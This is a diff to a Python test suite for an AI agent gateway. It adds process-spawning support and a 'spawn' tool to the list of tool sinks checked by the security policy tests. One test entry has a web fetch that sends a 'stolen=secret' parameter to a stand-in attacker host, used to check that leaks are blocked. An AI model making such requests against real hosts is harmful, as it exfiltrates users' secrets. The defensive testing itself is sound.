@@ -12,6 +12,7 @@ import pytest
 from gateway import tools as tool_families
 from gateway.agent.commands import WorkspaceCommands
 from gateway.agent.policy import Policy
+from gateway.agent.processes import Processes
 from gateway.agent.toolbox import Toolbox
 from gateway.background.jobs import approval
 from gateway.config.failpoints import Failpoints, Step
@@ -122,7 +123,7 @@ WRITES = [
     ("forget", {"id": 1}),
     ("web_fetch", {"url": "http://eve.example/?stolen=secret"}),
     ("web_fetch", {"url": "http://eve.example/", "raw": True}),
-    *([("exec", {"command": "true"})] if confines() else []),
+    *([("exec", {"command": "true"}), ("spawn", {"action": "start", "command": "true"})] if confines() else []),
 ]
 """Every sink of every tool that has one."""
 HARMLESS = [
@@ -171,7 +172,9 @@ async def at_work(path: MessagePath, who: str) -> tuple[list[AnyTool], Label]:
     async def record(*_: object) -> None: ...
 
     commands = WorkspaceCommands(Workshop(environment.workspace.root.parent / "scratch"), environment.workspace)
-    services = Services(environment.workspace, record, context=context, keep=record, commands=commands)
+    services = Services(
+        environment.workspace, record, context=context, keep=record, commands=commands, processes=Processes(commands)
+    )
     return [tool for family in tool_families.discover() for tool in family(services)], path.questions.people.own_label(
         principal
     )
